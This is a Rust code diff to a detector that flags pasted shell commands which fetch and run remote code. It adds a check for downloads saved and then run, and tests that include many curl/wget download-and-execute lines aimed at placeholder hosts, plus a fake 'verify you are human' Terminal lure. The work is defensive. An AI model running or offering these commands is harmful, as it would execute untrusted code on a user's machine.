@@ -93,7 +93,8 @@ pub enum Shape {
     DownloadExec,
     /// `osascript` (AppleScript from the shell).
     Osascript,
-    /// `curl`/`wget` piped to a shell, or `sh -c "$(curl …)"`: also how developer tools install.
+    /// `curl`/`wget` piped to a shell, `sh -c "$(curl …)"`, or saved and given to one
+    /// (`-o /tmp/v; sh /tmp/v`): also how developer tools install.
     PipeToShell,
     /// A share on an internet host opened from the Run box: a bare `\\host@SSL\DavWWWRoot\x.cmd`
     /// (WebDAV) or `explorer \\host\share`. IT pages give intranet shares, and show them.
@@ -560,29 +561,59 @@ fn dns_payload(flat: &str) -> bool {
         .any(|w| has(flat, w))
 }
 
-/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs a
-/// module reads the pipe as data, not as its program (`| python3 -m json.tool`, an API doc's
-/// pretty-printer: review 28 C-M1).
+/// Shells (the first six) and interpreters: what runs a program given to it on a pipe or as a
+/// file.
+const RUNNERS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
+    "source",
+];
+
+/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs the
+/// JSON pretty-printer reads the pipe as data, not as its program (`| python3 -m json.tool`, an
+/// API doc's: review 28 C-M1).
 fn piped_to_shell(flat: &str) -> bool {
-    const SHELLS: &[&str] = &[
-        "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
-    ];
     flat.split('|').skip(1).any(|after| {
         let mut args = after.split(' ').filter(|t| !t.is_empty());
         let name = args
             .find(|t| *t != "sudo" && !t.starts_with('-'))
             .map_or("", program);
-        match SHELLS.iter().position(|s| *s == name) {
+        match RUNNERS.iter().position(|s| *s == name) {
             None => false,
             Some(i) if i < 6 => true,
-            // An interpreter reads the pipe as data only when its options run a module (`-u -m
-            // json.tool`); inline code (`-c`, `-e`) may run what it reads in more ways than words
-            // can list (review 29 C-H2, C-M3), and after code, a script file, `-` or `&&` a `-m`
-            // is an argument.
+            // Data only for `json.tool` among its leading options (`-u -m json.tool`,
+            // `-mjson.tool`): other modules run what they read (`-m code`, `-m asyncio`, `-m pip
+            // install -r /dev/stdin`: review 30 CF-M1), and so may inline code (`-c`, `-e`), in
+            // more ways than words can list (review 29 C-H2, C-M3).
             _ => !args
-                .take_while(|a| a.len() > 1 && a.starts_with('-'))
-                .any(|a| a == "-m"),
+                .scan("", |prev, a| {
+                    let p = std::mem::replace(prev, a);
+                    (p == "-m" || a.len() > 1 && a.starts_with('-')).then_some((p, a))
+                })
+                .any(|(p, a)| p == "-m" && a == "json.tool" || a == "-mjson.tool"),
         }
+    })
+}
+
+/// A shell or an interpreter given a file named like an earlier word (`curl -o /tmp/v URL; sh
+/// /tmp/v`, `wget URL/v.py` and `python3 v.py` on the next line, `. /tmp/v` starting a command):
+/// the download saved, then run, a pipe to a shell by another road (review 29 MAIN-H2). Names
+/// are compared by their last path part: `-o /tmp/v`, `--output=/tmp/v`, `>/tmp/v` and the URL
+/// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
+fn runs_saved(flat: &str, toks: &[&str]) -> bool {
+    fn name(t: &str) -> &str {
+        t.rsplit('/').next().unwrap_or("")
+    }
+    toks.iter().enumerate().any(|(i, t)| {
+        let at = t.as_ptr() as usize - flat.as_ptr() as usize;
+        (RUNNERS.contains(&program(t))
+            || *t == "." && flat[..at].trim_end().ends_with([';', '&', '|']))
+            && toks[i + 1..]
+                .iter()
+                .find(|a| !a.starts_with('-'))
+                .is_some_and(|f| {
+                    let f = name(f);
+                    !f.is_empty() && toks[..i].iter().any(|e| name(e) == f)
+                })
     })
 }
 
@@ -753,6 +784,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
         program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
     });
     let to_shell = piped_to_shell(flat)
+        || runs_saved(flat, &toks)
         || ["sh", "bash", "zsh"].iter().any(|s| {
             toks.windows(2)
                 .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
@@ -2119,8 +2151,9 @@ mod tests {
         ] {
             assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
         }
-        // An interpreter that runs a module reads the pipe as data; inline code or a script file
-        // is its program, even an API doc's JSON reader (as on main).
+        // An interpreter that runs the JSON pretty-printer reads the pipe as data; inline code, a
+        // script file or another module is its program, even an API doc's JSON reader (as on
+        // main).
         for code in [
             "curl -s http://203.0.113.25/api/status | python3 -c \"import json,sys\"",
             "curl -s http://203.0.113.25/api/status | node -e \"process.stdin\"",
@@ -2130,6 +2163,11 @@ mod tests {
             "curl -s http://203.0.113.25/api/log | perl parse.pl",
             "curl -fsSL https://x.example/v | python3 -c \"exec(input())\" -m x",
             "curl -fsSL https://x.example/v | python3 - -m x",
+            // Modules that run what they read (review 30 CF-M1).
+            "curl -fsSL https://x.example/v | python3 -m code",
+            "curl -fsSL https://x.example/v | python3 -m asyncio",
+            "curl -fsSL https://x.example/v | sudo python3 -u -m code -q",
+            "curl -fsSL https://x.example/req.txt | python3 -m pip install -r /dev/stdin",
         ] {
             assert_eq!(shapes_of(code), vec![Shape::PipeToShell], "{code}");
         }
@@ -2137,6 +2175,7 @@ mod tests {
             "curl -s 203.0.113.25/api/status | python3 -m json.tool",
             "curl -s 203.0.113.25/api/status | python3 -u -m json.tool > out.json",
             "curl -s 203.0.113.25/api/status 2>/dev/null | sudo python3 -m json.tool",
+            "curl -s https://api.example/v1/status | python -mjson.tool",
         ] {
             assert!(!shapes_of(data).contains(&Shape::PipeToShell), "{data}");
         }
@@ -2152,6 +2191,50 @@ mod tests {
             shapes_of("osascript -e 'do shell script \"curl x\"'"),
             vec![Shape::Osascript]
         );
+    }
+
+    #[test]
+    fn a_download_saved_then_run_is_a_pipe_to_a_shell() {
+        // Review 29 MAIN-H2: the file a fetch saved, given to a shell or an interpreter later on
+        // the line, runs the download as `| sh` does.
+        for c in [
+            "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v; sh /tmp/v",
+            "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v.py && python3 /tmp/v.py",
+            "curl -sL --output=/tmp/v https://x.example/v && sudo bash -x /tmp/v",
+            "curl -s https://x.example/v > /tmp/v; source /tmp/v",
+            "curl -s https://x.example/v -o /tmp/v && . /tmp/v",
+            "curl -fsSL https://x.example/v -o /tmp/v\nsh /tmp/v",
+            "wget -q https://x.example/run.pl && perl run.pl",
+            "wget -qO /tmp/v https://x.example/v; zsh /tmp/v",
+        ] {
+            assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
+        }
+        // Data kept, or a program of the person's own run on it: nothing runs the download.
+        for c in [
+            "curl -o data.json https://api.example/v1/users && python3 -m json.tool data.json",
+            "curl -o data.csv https://api.example/export; python3 report.py data.csv",
+            "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz && sh configure",
+            "curl -o data.json https://api.example/v1/users && jq . data.json",
+        ] {
+            assert!(shapes_of(c).is_empty(), "{c}");
+        }
+        let lure = "curl -fsSL https://cdn.gate-check.example/v -o /tmp/v; sh /tmp/v";
+        assert!(judged(
+            lure,
+            "Verify you are human. To finish the check, open Terminal (Cmd + Space, type \
+             Terminal), press Cmd + V and press Return."
+        ));
+        // An install page showing the convenience script it copies stays silent, as its
+        // `curl … | sh` does.
+        let docker =
+            "curl -fsSL https://get.example.test -o get-example.sh; sudo sh get-example.sh";
+        assert!(!judged(
+            docker,
+            &format!(
+                "Install using the convenience script. Run the following in your terminal, then \
+                 press Enter. Open Terminal (Cmd + Space, Terminal) and paste: {docker}"
+            )
+        ));
     }
 
     #[test]
